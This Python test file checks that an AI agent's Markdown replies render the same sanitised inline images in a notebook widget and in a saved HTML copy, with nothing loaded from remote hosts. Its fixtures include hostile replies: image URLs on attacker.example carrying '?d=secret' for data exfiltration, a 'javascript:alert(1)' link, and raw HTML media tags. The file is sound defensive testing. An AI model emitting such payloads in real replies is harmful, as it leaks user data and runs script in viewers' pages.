"""The agent's Markdown loads the same images in a saved copy as in the widget: none remote.

The widget renders a reply with markdown-it and its media policy (``js/src/markdown.js``,
``js/src/media.js``); the static copy with mistune (``copy/markdown.py``). Two parsers,
so the code exists twice; the image types are one list (``contract/spec/media.json``). The same
hostile replies go through both: every image type as a ``data:`` URL, base64 that is not clean,
remote images, scripts in links, raw HTML. Each shows the same inline images and loads nothing
remote; a remote image is a click away in both (a link in the copy, a placeholder in the page).
"""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from urllib.parse import urlsplit

from gth_jupyter.copy.markdown import markdown_to_html
from tests.node import run_js

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(40))).decode()
TYPES = ("png", "jpeg", "gif", "webp", "svg+xml", "bmp", "avif", "x-icon", "jpg", "pjpeg")
REPLIES = [
    *(f"A plot: ![p](data:image/{t};base64,{PNG}) done." for t in TYPES),
    f"![upper](DATA:IMAGE/PNG;base64,{PNG})",
    "![not base64](data:image/png;base64,<b>hi</b>)",
    "![bad](data:image/png;base64,QU=JD)",
    "![plain](data:image/gif,GIF89a)",
    f"![params](data:image/png;charset=utf-8;base64,{PNG})",
    "![remote](https://attacker.example/p.png?d=secret) and ![rel](p.png)",
    '<img src="https://attacker.example/x.png"> <video src="https://e.example/v.mp4">',
    "[click](javascript:alert(1)) [mail](mailto:a@b.example) [site](https://docs.example/x)",
    "[![nested](https://attacker.example/n.png)](https://docs.example/) www.bare.example",
    f"| a | b |\n|---|---|\n| ![t](data:image/webp;base64,{PNG}) | ![r](http://evil.example/t) |",
    f"> quote ![q](data:image/jpeg;base64,{PNG[:10]}\n{PNG[10:]})",
]
RENDER = """
const { renderMarkdown } = await import("./src/markdown.js");
const { parseHTML } = await import("linkedom");
output(input.map((text) => {
  const page = `<!doctype html><html><body>${renderMarkdown(text)}</body></html>`;
  const { document } = parseHTML(page);
  const all = (sel) => [...document.querySelectorAll(sel)];
  return {
    images: all("img").map((i) => i.getAttribute("src")),
    loads: all("video, audio, source, iframe, [srcset], [style]").length,
    remote: all("[data-gth-src]").map((b) => b.getAttribute("data-gth-src")),
    links: all("a[href]").map((a) => a.getAttribute("href")),
  };
}));
"""


class _Read(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.images: list[str] = []
        self.links: list[str] = []
        self.loads = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "img":
            self.images.append(a.get("src") or "")
        elif tag == "a" and a.get("href"):
            self.links.append(a["href"] or "")
        if tag in ("video", "audio", "source", "iframe") or "srcset" in a or "style" in a:
            self.loads += 1


def _host(url: str) -> str:
    return (urlsplit(url).hostname or "").lower()


def test_a_reply_shows_the_same_inline_images_in_the_copy_and_the_widget() -> None:
    widget = run_js(RENDER, REPLIES)
    for text, live in zip(REPLIES, widget, strict=True):
        saved = _Read()
        saved.feed(markdown_to_html(text))
        assert saved.images == live["images"], text
        assert all(src.startswith("data:image/") for src in saved.images), text
        assert saved.loads == live["loads"] == 0, text
        # A remote image is a click away in both: the copy's link, the page's placeholder (the
        # widget also links a bare URL inside raw HTML it shows as text).
        clickable = {_host(u) for u in saved.links} - {""}
        assert clickable <= {_host(u) for u in live["remote"] + live["links"]}, text
        if "<" not in text:
            assert {_host(u) for u in live["remote"] + live["links"]} - {""} == clickable, text


def test_only_the_four_types_in_strict_base64_render_inline() -> None:
    shown = [r["images"] for r in run_js(RENDER, REPLIES)]
    assert shown[:4] == [[f"data:image/{t};base64,{PNG}"] for t in TYPES[:4]]
    assert shown[4:10] == [[]] * 6  # SVG, BMP, AVIF, ICO and the jpg/pjpeg aliases
    assert shown[10] == [f"data:image/png;base64,{PNG}"]  # the URL's case is read as any case
    assert shown[11:15] == [[]] * 4
